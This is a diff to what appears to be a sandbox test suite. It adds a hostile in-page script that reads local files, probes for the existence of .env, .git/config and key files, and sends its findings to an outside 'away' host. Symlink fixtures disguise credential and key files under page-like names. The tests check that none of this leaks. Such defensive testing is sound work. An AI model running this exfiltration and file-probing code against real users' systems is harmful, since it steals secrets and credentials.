@@ -13,10 +13,14 @@ const isPosix = process.platform !== 'win32';
 /** In a page: puts what it can read into the page, where a finding would quote it, and sends it in every way. */
 const STEALS = `
 const found = [];
-for (const place of places) try {
+await Promise.all(places.map(async (place) => {
   const answer = await fetch(place, { signal: AbortSignal.timeout(2_000) });
   if (answer.ok) found.push(place + '=' + (await answer.text()).slice(0, 2_000).replaceAll(/\\s+/g, ' '));
-} catch {}
+}).map((one) => one.catch(() => {})));
+const outcome = (place) => fetch(place).then(({ status }) => status, () => 'blocked');
+await Promise.all(asked.map(async ([there, gone]) => {
+  if (await outcome(there) !== await outcome(gone)) found.push('TELLS-APART ' + there);
+}));
 const sent = away + '/?' + encodeURIComponent(found.join().slice(0, 1_000));
 const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
 const ways = [
@@ -48,8 +52,20 @@ for (const one of found) {
 }
 document.title = found.length + ' found: ' + found.join();`;
 
+/** Files that are there, and others that are not: no page tells them apart. */
+const IS_THERE = [
+  ['/folder/secret.txt', '/folder/none.txt'],
+  ['/folder/secret', '/folder/none'],
+  ['/.env', '/.none'],
+  ['/.git/config', '/.git/none'],
+  ['/key.pem', '/none.pem'],
+  ['/link.html', '/none.html'],
+  ['/pipe.html', '/none.html'],
+  ['/hidden.js', '/none.js'],
+];
+
 const page = (away: string, places: readonly string[]): string =>
-  `<!doctype html><title>Books</title><body data-awas-context="x"><script type="module">const away = ${JSON.stringify(away)}, places = ${JSON.stringify(places)}; ${STEALS}</script>`;
+  `<!doctype html><title>Books</title><body data-awas-context="x"><script type="module">const away = ${JSON.stringify(away)}, places = ${JSON.stringify(places)}, asked = ${JSON.stringify(IS_THERE)}; ${STEALS}</script>`;
 
 /** Files of the folder: a text, or where a link leads (from the folder). */
 const FILES: Readonly<Record<string, string | { readonly to: string }>> = {
@@ -74,6 +90,12 @@ const FILES: Readonly<Record<string, string | { readonly to: string }>> = {
   folder: { to: '../home' },
   'environment.html': { to: '/proc/self/environ' },
   'endless.html': { to: '/dev/zero' },
+  // Under the name of a page, but none.
+  'notes.html': { to: 'notes.txt' },
+  'dump.js': { to: 'dump.sql' },
+  'key.css': { to: 'key.pem' },
+  'creds.svg': { to: 'gha-creds-1.json' },
+  'bare.html': { to: 'no-extension' },
   'self.html': { to: 'self.html' },
   'chain.html': { to: 'chain-2.html' },
   'chain-2.html': { to: 'folder/secret.txt' },
@@ -132,7 +154,8 @@ describe.skipIf(!isPosix)('a script in a checked folder', RUNNING, () => {
     // The script has run, and has read what it may.
     expect(report.stdout).toContain('A-PART-OF-THE-SITE');
     expect(report.stdout).toContain('/.well-known/ai-actions.json=');
-    for (const kept of [SECRET, 'PATH=']) expect(report.stdout + report.stderr).not.toContain(kept);
+    for (const kept of [SECRET, 'PATH=', 'TELLS-APART'])
+      expect(report.stdout + report.stderr).not.toContain(kept);
     expect(away.got).toEqual([]);
   });
 });
